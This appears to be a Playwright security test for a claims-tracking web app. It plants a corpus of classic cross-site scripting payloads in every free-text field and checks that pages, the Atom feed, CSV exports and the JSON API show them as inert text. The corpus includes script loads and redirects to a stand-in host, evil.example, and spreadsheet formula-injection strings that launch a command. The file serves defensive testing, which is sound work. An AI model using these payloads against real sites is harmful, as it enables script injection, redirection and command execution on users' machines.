import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import { actionResult, callAction, createAccount, newTag, readRow, signedInRequest, type FormFields } from "./support";

// Cross-site scripting: a corpus of classic payloads typed into every free-text field through the
// real actions, published, then every page, feed, file and API answer that shows them checked in
// the browser: no dialog opens, no element or handler was injected, the words show as text.
test.skip(({ isMobile }) => isMobile, "one run is enough: escaping does not depend on the screen");
test.describe.configure({ timeout: 240_000 });

/** Each payload tries to run alert("xss") or inject an element; kept short so several fit a field. */
export const XSS_CORPUS = [
  `<script>alert("xss")</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=alert("xss")>`,
  `<img src="x" onerror="alert('xss')">`,
  `"><svg onload=alert("xss")>`,
  `'><svg/onload=alert("xss")>`,
  `<svg><script>alert("xss")</script></svg>`,
  `<iframe src="javascript:alert('xss')">`,
  `<a href="javascript:alert('xss')">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">y</a>`,
  `<body onload=alert("xss")>`,
  `<details open ontoggle=alert("xss")>`,
  `<input autofocus onfocus=alert("xss")>`,
  `<object data="data:text/html,x">`,
  `<embed src="javascript:alert(1)">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<style>*{display:none}</style>`,
  `</script><script>alert("xss")</script>`,
  `</title><script>alert("xss")</script>`,
  `</textarea><img src=x onerror=alert(1)>`,
  `${"$"}{alert("xss")}`,
  "`${alert(`xss`)}`",
  `{{constructor.constructor('alert(1)')()}}`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `\u003cimg src=x onerror=alert(2)\u003e`,
  `&lt;script&gt;alert("xss")&lt;/script&gt;`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `<math><mi xlink:href="javascript:alert(1)">m</mi></math>`,
  `=HYPERLINK("https://evil.example","x")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];

/** The corpus packed, in order, into pieces no longer than a field allows. */
function pack(max: number): string[] {
  const pieces: string[] = [];
  let current = "";
  for (const payload of XSS_CORPUS) {
    const next = current === "" ? payload : `${current} ${payload}`;
    if (next.length > max && current !== "") {
      pieces.push(current);
      current = payload;
    } else current = next;
  }
  if (current) pieces.push(current);
  return pieces;
}

// Every free-text field the app shows, with its length limit (lib/validation).
const FIELD_LIMITS = {
  storyTitle: 180,
  storySummary: 2_000,
  storyPlace: 200,
  quantityLabel: 180,
  scopeWho: 200,
  scopePlace: 200,
  sourceName: 180,
  sourceCountry: 120,
  quote: 200,
  sentence: 1_700,
  headline: 300,
  publisher: 200,
  reviewNote: 2_000,
  retractionReason: 2_000,
} as const;
type Field = keyof typeof FIELD_LIMITS;
const PIECES = Object.fromEntries(Object.entries(FIELD_LIMITS).map(([field, max]) => [field, pack(max)])) as Record<
  Field,
  string[]
>;
// One group (story, quantity, source, three claims) per piece of the field cut the finest.
const GROUPS = Math.max(...Object.values(PIECES).map((p) => p.length));
const piece = (field: Field, group: number) => PIECES[field][group % PIECES[field].length] as string;

interface Group {
  storyId: string;
  slug: string;
  quantityId: string;
  sourceId: string;
  published: string;
  retracted: string;
  rejected: string;
  texts: string[];
}

async function create(
  editor: APIRequestContext,
  reviewer: APIRequestContext,
  tag: string,
  group: number,
): Promise<Group> {
  const title = `${tag}-${group} ${piece("storyTitle", group)}`;
  const story = await callAction(editor, "app/stories/actions.ts#createStoryAction", {
    form: {
      title,
      summary: piece("storySummary", group),
      place: piece("storyPlace", group),
      date: "2020-02-27",
    },
  });
  const storyId = /^\/stories\/([^/?]+)/.exec(story.redirect ?? "")?.[1];
  expect(storyId, story.body).toBeTruthy();
  const slug = (await readRow(`SELECT "slug" FROM "Story" WHERE "id" = ?`, storyId))?.slug as string;

  const label = `${tag}-${group} ${piece("quantityLabel", group)}`;
  const quantity = actionResult(
    (
      await callAction(editor, "app/stories/actions.ts#createQuantityAction", {
        form: {
          storyId: storyId as string,
          label,
          scopeWho: piece("scopeWho", group),
          scopePlace: piece("scopePlace", group),
          measure: "killed",
          headlinePolicy: "range",
          cumulative: "on",
        },
      })
    ).body,
  );
  const quantityId = (quantity?.data as { id?: string } | undefined)?.id as string;
  expect(quantityId, JSON.stringify(quantity)).toBeTruthy();

  const name = `${tag}-${group} ${piece("sourceName", group)}`;
  const source = actionResult(
    (
      await callAction(editor, "app/sources/actions.ts#createSourceAction", {
        form: { name, kind: "ngo", country: piece("sourceCountry", group) },
      })
    ).body,
  );
  const sourceId = (source?.data as { source?: { id?: string } } | undefined)?.source?.id as string;
  expect(sourceId, JSON.stringify(source)).toBeTruthy();

  const claimIds: string[] = [];
  for (const n of [1, 2, 3]) {
    const quote = piece("quote", group + n);
    const form: FormFields = {
      sentence: `${tag}-${group}-${n} ${quote} ${piece("sentence", group)}`,
      language: "en",
      quote,
      value: String(20 + n),
      qualifier: "exact",
      kind: "count",
      quantityId,
      sourceId,
      headline: piece("headline", group + n),
      publisher: piece("publisher", group + n),
      articleUrl: "https://example.org/article",
      reportedAt: `2020-02-2${n}T10:00`,
    };
    const created = await callAction(editor, "app/claims/actions.ts#createDraftAction", { form });
    const id = /^\/claims\/([^/?]+)/.exec(created.redirect ?? "")?.[1] as string;
    expect(id, created.body).toBeTruthy();
    const submitted = await callAction(editor, "app/claims/actions.ts#submitClaimAction", {
      form: { claimId: id, version: "1" },
    });
    expect(actionResult(submitted.body)?.ok, submitted.body).toBe(true);
    claimIds.push(id);
  }
  const [published, retracted, rejected] = claimIds as [string, string, string];
  for (const id of [published, retracted]) {
    const approved = await callAction(reviewer, "app/review/actions.ts#approveClaimAction", {
      form: { claimId: id, version: "2" },
    });
    expect(approved.redirect, approved.body).toMatch(/done=approved/);
  }
  const note = piece("reviewNote", group);
  const rejection = await callAction(reviewer, "app/review/actions.ts#rejectClaimAction", {
    form: { claimId: rejected, version: "2", note },
  });
  expect(rejection.redirect, rejection.body).toMatch(/done=rejected/);
  const reason = piece("retractionReason", group);
  const retraction = await callAction(reviewer, "app/review/actions.ts#retractClaimAction", {
    form: { claimId: retracted, version: "3", reason },
  });
  expect(retraction.redirect, retraction.body).toMatch(/done=retracted/);

  return {
    storyId: storyId as string,
    slug,
    quantityId,
    sourceId,
    published,
    retracted,
    rejected,
    texts: [title, label, name, note, reason],
  };
}

/** Loads a page and proves nothing ran and nothing was injected; returns the page's visible text. */
async function expectInert(page: Page, url: string, dialogs: string[], status?: number): Promise<string> {
  const response = await page.goto(url);
  if (status === undefined) expect(response?.status(), url).toBeLessThan(400);
  else expect(response?.status(), url).toBe(status);
  await page.waitForLoadState("networkidle");
  const injected = await page.evaluate(() => {
    const found: string[] = [];
    for (const element of Array.from(document.querySelectorAll("*"))) {
      for (const attribute of Array.from(element.attributes)) {
        if (attribute.name.toLowerCase().startsWith("on")) found.push(`${element.tagName} ${attribute.name}`);
        if (
          /^(href|src|data|action|formaction|xlink:href)$/i.test(attribute.name) &&
          /^\s*(javascript:|vbscript:|data:text\/html)/i.test(attribute.value)
        ) {
          found.push(`${element.tagName} ${attribute.name}=${attribute.value}`);
        }
      }
    }
    for (const selector of [
      "iframe",
      "object",
      "embed",
      "base",
      "meta[http-equiv='refresh']",
      "details[open]",
      "img[src='x']",
      "math",
      "svg script",
    ]) {
      if (document.querySelector(selector)) found.push(selector);
    }
    for (const style of Array.from(document.querySelectorAll("style"))) {
      if ((style.textContent ?? "").includes("display:none}")) found.push("an injected <style>");
    }
    for (const script of Array.from(document.scripts)) {
      const text = script.textContent ?? "";
      if (script.type === "application/ld+json") {
        try {
          JSON.parse(text);
        } catch {
          found.push("JSON-LD that no longer parses");
        }
      } else if (script.src.includes("evil.example") || (/alert\(/.test(text) && !text.includes("__next_f"))) {
        found.push(`script ${script.src || text.slice(0, 60)}`);
      }
    }
    return found;
  });
  expect(injected, `${url}: injected into the page`).toEqual([]);
  expect(dialogs, `${url}: a dialog opened`).toEqual([]);
  return page.locator("body").innerText();
}

test("a corpus of script payloads in every free-text field shows as text on every page and file", async ({
  browser,
  baseURL,
  page,
}) => {
  const editor = await signedInRequest(browser, baseURL as string, await createAccount("editor"));
  const reviewerAccount = await createAccount("reviewer");
  const reviewer = await signedInRequest(browser, baseURL as string, reviewerAccount);
  const tag = newTag();
  const groups: Group[] = [];
  for (let group = 0; group < GROUPS; group++) groups.push(await create(editor, reviewer, tag, group));

  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });

  // Public pages, as a visitor.
  for (const group of groups) {
    const story = await expectInert(page, `/story/${group.slug}`, dialogs);
    expect(story, "the story's title shows as typed").toContain(group.texts[0]);
    expect(await expectInert(page, `/quantity/${group.quantityId}`, dialogs)).toContain(group.texts[1]);
    const claim = await expectInert(page, `/claim/${group.published}`, dialogs);
    expect(claim).toContain(
      (await readRow(`SELECT "quote" FROM "Claim" WHERE "id" = ?`, group.published))?.quote as string,
    );
    expect(
      await expectInert(page, `/claim/${group.retracted}`, dialogs, 410),
      "the retraction reason shows as typed",
    ).toContain(group.texts[4]);
    expect(await expectInert(page, `/source/${group.sourceId}`, dialogs)).toContain(group.texts[2]);
  }
  await expectInert(page, `/search?q=${encodeURIComponent(tag)}`, dialogs);
  await expectInert(page, `/search?q=${encodeURIComponent(XSS_CORPUS[0] as string)}`, dialogs);
  await expectInert(page, "/", dialogs);

  // Staff pages, signed in as the reviewer (who may read everything the editor wrote).
  await page.context().setExtraHTTPHeaders({
    "x-forwarded-for": `10.251.${Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250)}`,
  });
  await page.goto("/sign-in");
  await page.getByLabel("Email", { exact: true }).fill(reviewerAccount.email);
  await page.getByLabel("Password", { exact: true }).fill(reviewerAccount.password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page).not.toHaveURL(/\/sign-in/, { timeout: 15_000 });
  for (const group of groups) {
    expect(await expectInert(page, `/stories/${group.storyId}`, dialogs)).toContain(group.texts[1]);
    expect(await expectInert(page, `/claims/${group.rejected}`, dialogs), "the review note shows as typed").toContain(
      group.texts[3],
    );
    await expectInert(page, `/review/${group.published}`, dialogs);
  }
  for (const url of ["/dashboard", "/review", "/stories", "/sources"]) await expectInert(page, url, dialogs);

  // The files and data: the feed is well-formed XML with no live element, the CSV has no live
  // formula, the JSON carries the text exactly as typed.
  const visitor = page.context().request;
  const feed = await (await visitor.get("/feed.atom")).text();
  expect(feed).not.toMatch(/<(script|img|svg|iframe|a|body|details|input|object|embed|base|meta|style|math)\b/i);
  for (const group of groups) {
    const csv = await (await visitor.get(`/story/${group.slug}/claims.csv`)).text();
    for (const cell of csv.split(/\r\n/).flatMap((line) => line.split(",")))
      expect(cell, "a CSV cell a spreadsheet would run").not.toMatch(/^"?[=+@-]/);
    const api = await visitor.get(`/api/v1/claims/${group.published}`);
    expect(api.headers()["content-type"]).toContain("application/json");
    const quote = (await readRow(`SELECT "quote" FROM "Claim" WHERE "id" = ?`, group.published))?.quote as string;
    expect(JSON.stringify(await api.json())).toContain(JSON.stringify(quote).slice(1, -1));
  }
  // Every payload went into every field at least once.
  for (const field of Object.keys(FIELD_LIMITS) as Field[])
    expect(PIECES[field].join(" "), field).toBe(XSS_CORPUS.join(" "));
});
